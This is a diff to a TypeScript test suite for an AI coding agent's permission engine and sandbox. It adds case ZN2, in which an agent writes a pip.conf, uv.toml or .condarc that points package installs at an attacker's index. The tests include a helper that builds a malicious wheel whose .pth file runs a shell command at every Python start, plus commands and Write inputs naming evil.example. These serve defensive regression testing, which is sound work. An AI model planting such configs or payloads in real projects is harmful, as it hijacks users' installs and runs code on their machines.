@@ -23,6 +23,19 @@
  *           them, so the sandbox leaves them writable and a write the command names is sandbox-open
  *           (ZE3's rule: autoAllowBash leaves the question standing).
  *
+ * ZN2 FIXED ZN1's class through a package manager's own configuration: .npmrc, .yarnrc and
+ *           bunfig.toml were sensitive (their registry decides what an install fetches), but the
+ *           files that do the same for Python and conda were not. pip reads the environment's own
+ *           `pip.conf` (`.venv/pip.conf`, beside pyvenv.cfg) before the user's; in acceptEdits a
+ *           Write of `.venv/pip.conf` with `find-links` (or `index-url`) naming the attacker's
+ *           source ran unasked, and the next `.venv/bin/python -m pip install leftpad` installed the
+ *           attacker's leftpad, whose .pth then ran at the next python start (the oracle: pip 23,
+ *           offline, made the marker). The same for uv's `uv.toml` beside the project, poetry's
+ *           `poetry.toml` and conda's `.condarc` (not installed here: by their documentation).
+ *           Class: ZN1's. Rule: a package manager's configuration file (pip.conf, pip.ini, uv.toml,
+ *           poetry.toml, .condarc, condarc) is sensitive at any depth, as .npmrc is; no install
+ *           writes one, so the sandbox holds it (read-only, one made by a command removed).
+ *
  * Tried: see the tally at the end of this header.
  */
 import { spawnSync } from "node:child_process";
@@ -97,8 +110,9 @@ const LOCKFILES = [
   "Package.resolved",
 ];
 
-/** One run of the bin without the sandbox (acceptEdits, `Bash(echo:*)`): the lockfile writes are refused, the control runs. */
-const zn1Run = batch(["--no-sandbox", "--permission-mode", "acceptEdits", "--allowedTools", "Bash(echo:*)"]).add([
+/** One run of the bin for ZN1's and ZN2's cases (acceptEdits without the sandbox, `Bash(echo:*)`): no call changes what another reads. */
+const binRun = batch(["--no-sandbox", "--permission-mode", "acceptEdits", "--allowedTools", "Bash(echo:*)"]);
+const zn1Run = binRun.add([
   { name: "Write", input: { file_path: "package-lock.json", content: JSON.stringify(lock("../attacker", true)) } },
   { name: "Write", input: { file_path: "web/yarn.lock", content: 'left-pad@^1.3.0:\n  resolved "file:../x"\n' } },
   `echo '${JSON.stringify(lock("../attacker", true))}' > package-lock.json`,
@@ -160,7 +174,13 @@ describe("ZN1: a lockfile names where an install fetches each package's code fro
       p,
     );
     // What installs do stays as it was: the lockfile the install writes is no named write.
-    await expectVerdicts(["npm ci", "npm install left-pad"], "allow", "default", { allow: ["Bash(npm ci)", "Bash(npm install:*)"] }, p);
+    await expectVerdicts(
+      ["npm ci", "npm install left-pad"],
+      "allow",
+      "default",
+      { allow: ["Bash(npm ci)", "Bash(npm install:*)"] },
+      p,
+    );
   });
 
   it("the rule, name by name: every lockfile is sensitive at any depth; the sandbox leaves it writable, so it is sandbox-open", () => {
@@ -177,7 +197,9 @@ describe("ZN1: a lockfile names where an install fetches each package's code fro
   it("through the bin (acceptEdits, no sandbox): Writes and `echo >` of a lockfile are refused; an ordinary Write runs", async () => {
     const { cwd, out } = await zn1Run();
     expect(out.slice(0, 3).every((o) => o.isError)).toBe(true);
-    expect(JSON.parse(readFileSync(join(cwd, "package-lock.json"), "utf8"))).toEqual(lock("https://registry.npmjs.org"));
+    expect(JSON.parse(readFileSync(join(cwd, "package-lock.json"), "utf8"))).toEqual(
+      lock("https://registry.npmjs.org"),
+    );
     expect(existsSync(join(cwd, "web", "yarn.lock"))).toBe(false);
     expect(out[3]!.isError).toBe(false);
     expect(existsSync(join(cwd, "src", "app.js"))).toBe(true);
@@ -188,7 +210,12 @@ describe("ZN1: a lockfile names where an install fetches each package's code fro
     async () => {
       const p = project();
       const { out } = await attack(
-        ["echo '{}' > package-lock.json", "f=yarn.lock; echo '# made by an install' > $f && cat $f"],
+        [
+          "echo '{}' > package-lock.json",
+          "f=yarn.lock; echo '# made by an install' > $f && cat $f",
+          // ZN2: what no install writes, the sandbox holds however the command names it.
+          "d=.venv; mkdir -p $d; printf '[global]\\nindex-url = https://evil.example\\n' > $d/pip.conf; true",
+        ],
         ["--sandbox"],
         p,
       );
@@ -198,6 +225,100 @@ describe("ZN1: a lockfile names where an install fetches each package's code fro
       );
       expect(out[1]!.content).toContain("# made by an install");
       expect(readFileSync(join(p.cwd, "yarn.lock"), "utf8")).toBe("# made by an install\n");
+      expect(existsSync(join(p.cwd, ".venv", "pip.conf"))).toBe(false);
     },
   );
+});
+
+// ── ZN2 ──────────────────────────────────────────────────────────────────────────────────────────
+
+const NO_PIP =
+  spawnSync("python3", ["-m", "pip", "--version"], { env: { PATH } }).status !== 0
+    ? "python3 -m pip is not available"
+    : undefined;
+
+/** A wheel of `leftpad` whose .pth runs `command` at every python start (a zip written by python's zipfile). */
+function attackerWheel(dir: string, command: string): void {
+  const script = [
+    "import sys, zipfile",
+    "w = zipfile.ZipFile(sys.argv[1], 'w')",
+    "w.writestr('leftpad_evil.pth', 'import os; os.system(' + repr(sys.argv[2]) + ')' + chr(10))",
+    "w.writestr('leftpad-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: leftpad\\nVersion: 1.0\\n')",
+    "w.writestr('leftpad-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')",
+    "w.writestr('leftpad-1.0.dist-info/RECORD', '')",
+    "w.close()",
+  ].join("\n");
+  spawnSync("python3", ["-c", script, join(dir, "leftpad-1.0-py3-none-any.whl"), command], { env: { PATH } });
+}
+
+const PIP_CONF = (source: string) => `[global]\nno-index = true\nfind-links = ${source}\n`;
+
+const zn2Run = binRun.add([
+  { name: "Write", input: { file_path: ".venv/pip.conf", content: PIP_CONF("/srv/attacker") } },
+  { name: "Write", input: { file_path: "uv.toml", content: 'index-url = "https://evil.example/simple"\n' } },
+  { name: "Write", input: { file_path: ".condarc", content: "channels: [https://evil.example/conda]\n" } },
+]);
+
+describe("ZN2: a package manager's own configuration names where an install fetches from", () => {
+  it.skipIf(NO_USERNS || NO_PIP)(
+    "the oracle: a virtualenv's pip.conf makes its pip install the attacker's package, whose .pth runs at the next start",
+    () => {
+      const p = project();
+      const attacker = temp("ubq-rt7zn-index-");
+      attackerWheel(attacker, `touch ${p.cwd}/pwned-zn2`);
+      spawnSync("python3", ["-m", "venv", "--without-pip", "--system-site-packages", ".venv"], {
+        cwd: p.cwd,
+        env: { PATH },
+      });
+      writeFileSync(join(p.cwd, ".venv", "pip.conf"), PIP_CONF(attacker));
+      const ns = ["-U", "--map-user=1000", "--map-group=1000", "-n"];
+      const env = { PATH, HOME: p.home };
+      const python = join(p.cwd, ".venv", "bin", "python");
+      const install = spawnSync(
+        "unshare",
+        [...ns, python, "-m", "pip", "install", "-q", "--disable-pip-version-check", "--no-cache-dir", "leftpad"],
+        { cwd: p.cwd, env, encoding: "utf8" },
+      );
+      spawnSync("unshare", [...ns, python, "-c", "pass"], { cwd: p.cwd, env });
+      expect(existsSync(join(p.cwd, "pwned-zn2")), `${install.stdout}\n${install.stderr}`).toBe(true);
+    },
+  );
+
+  it("the engine: a write of a package manager's configuration asks in acceptEdits and bypassPermissions; the sandbox holds it", async () => {
+    const p = project();
+    for (const mode of ["acceptEdits", "bypassPermissions"] as const)
+      for (const file_path of [
+        ".venv/pip.conf",
+        "venv/pip.ini",
+        "uv.toml",
+        "tools/poetry.toml",
+        ".condarc",
+        "env/condarc",
+      ]) {
+        const d = await decidePermission({
+          toolName: "Write",
+          input: { file_path, content: "x\n" },
+          rules: {},
+          mode,
+          cwd: p.cwd,
+          home: p.home,
+          tool: tools.get("Write"),
+        });
+        expect(d.behavior, `${file_path} in ${mode}: ${d.message}`).toBe("ask");
+        expect(sandboxReason(file_path), file_path).toMatch(/sensitive/);
+      }
+    await expectVerdicts(
+      ["printf '[global]\\nindex-url = https://evil.example\\n' > .venv/pip.conf", "echo x >> uv.toml"],
+      "ask",
+      "acceptEdits",
+      { allow: ["Bash(echo:*)", "Bash(printf:*)"] },
+      p,
+    );
+  });
+
+  it("through the bin (acceptEdits, no sandbox): Writes of pip.conf, uv.toml and .condarc are refused", async () => {
+    const { cwd, out } = await zn2Run();
+    expect(out.every((o) => o.isError)).toBe(true);
+    for (const f of [".venv/pip.conf", "uv.toml", ".condarc"]) expect(existsSync(join(cwd, f)), f).toBe(false);
+  });
 });
